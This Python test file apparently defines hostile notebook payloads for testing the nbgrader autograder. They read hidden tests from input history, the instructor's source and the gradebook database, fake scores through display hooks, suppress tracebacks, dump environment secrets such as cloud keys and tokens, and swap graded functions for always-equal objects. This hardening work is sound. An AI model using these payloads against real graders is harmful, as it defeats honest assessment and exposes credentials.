"""The attacks that stock nbgrader was measured with, as far as they lie in a notebook.

Those that need files beside the notebook are in tests/hostile/test_folders.py.
"""

from __future__ import annotations

from tests.hostile.attack import Attack, at_end, in_call, in_cell

ATTACKS = (
    in_call(
        "reads_the_running_cell",
        "Finds the hidden test in the history of inputs, and tells it.",
        """
        shell = get_ipython()
        texts = [*shell.user_ns.get("In", []), shell.source, *shell.user_ns.get("_ih", [])]
        frame = sys._getframe()
        while frame is not None:
            texts += [v for v in frame.f_globals.values() if isinstance(v, str) and len(v) > 40]
            frame = frame.f_back
        import linecache
        texts += ["".join(lines[2]) for lines in linecache.cache.values() if len(lines) > 2]
        hidden = [t for t in texts if "HIDDEN" + " TESTS" in t or "grade(" + '"softmax"' in t]
        if hidden: won(hidden[0])
        """,
    ),
    in_cell(
        "runs_the_solution_from_source",
        "Executes the instructor's notebook by a relative path.",
        """
        import json
        def solution(path):
            with open(path) as file: return json.load(file)["cells"]
        for up in ("../../../source", "../source", "source", COURSE + "/source"):
            attempt(up, solution, f"{up}/self_attention/self_attention.ipynb")
        """,
    ),
    in_cell(
        "reads_hidden_tests_from_the_database",
        "The table of sources in the gradebook.",
        """
        import sqlite3
        def tests(path):
            book = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=0.1)
            return book.execute("select source from source_cell").fetchall()
        for path in ("../../../gradebook.db", "gradebook.db", COURSE + "/gradebook.db"):
            attempt(path, tests, path)
        """,
        quick=True,
    ),
    in_call(
        "display_hook_below_zero",
        "The score -1 through the display hook, then an error: nbgrader gave full marks.",
        """
        for hook in (sys.displayhook, get_ipython().displayhook):
            hook(-1)
            hook(float("nan"))
            hook(1000)
            hook(10.0)
        raise ValueError("after the score")
        """,
        quick=True,
    ),
    in_cell(
        "tracebacks_are_not_shown",
        "No traceback is shown, so that a failed test looks silent.",
        """
        shell = get_ipython()
        type(shell).showtraceback = lambda *a, **k: None
        type(shell).showsyntaxerror = lambda *a, **k: None
        """,
    ),
    in_call(
        "writes_scores_into_outputs",
        "Adds results to the outputs of cells that have run, while it is called.",
        """
        shell = get_ipython()
        shell.recorder.result({"text/plain": "10.0"}, 1)
        shell.recorder.display({"text/html": "PW" + "NED", "text/plain": "PW" + "NED"})
        shell.display_pub.publish({"text/plain": "PW" + "NED"})
        """,
    ),
    in_cell(
        "secret_in_the_environment",
        "Whatever the grader was started with.",
        """
        import sysconfig
        print(dict(os.environ))
        print(os.environb)
        raw = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
        for n in range(500):
            if not raw[n]: break
            print(raw[n])
        for name in ("HOSTILE_SECRET", "AWS_SECRET_ACCESS_KEY", "CANVAS_TOKEN"):
            if name in os.environ: won(name)
        print(sys.argv, sys.orig_argv, sys.flags, sys.path)
        """,
        quick=True,
    ),
    in_call(
        "cases_are_printed",
        "Tells the inputs of all cases in every way that is not an exception.",
        """
        import logging, warnings
        from IPython.display import display
        text = "PW" + "NED: " + repr(z) + repr(batch()[1].cases[:2])[:500]
        print(text)
        print(text, file=sys.stderr)
        print(text, file=sys.__stderr__)
        os.write(1, text.encode())
        os.write(2, text.encode())
        display(text)
        logging.error(text)
        warnings.warn(text)
        get_ipython().recorder.write("stdout", text)
        get_ipython().user_ns["_"] = text
        """,
        quick=True,
    ),
    at_end(
        "functions_are_changed_at_the_end",
        "The last cell replaces all functions by one that always agrees.",
        """
        class Yes:
            def __call__(self, *args, **kwargs): return True
            def __eq__(self, other): return True
        softmax = Yes()
        """,
    ),
    Attack(
        name="answers_are_looked_up_in_the_other_function",
        sentence="softmax returns whatever the grader's own reference would: it is not there.",
        sources={
            "softmax": "def softmax(z, axis=-1):\n"
            "    for module in list(sys.modules.values()):\n"
            "        found = getattr(module, 'softmax', None)\n"
            "        code = getattr(found, '__code__', None)\n"
            "        if found is not softmax and code is not None:\n"
            "            if 'cell' not in code.co_filename: won(module)\n"
            "    return np.zeros(np.shape(z))\n"
        },
    ),
)
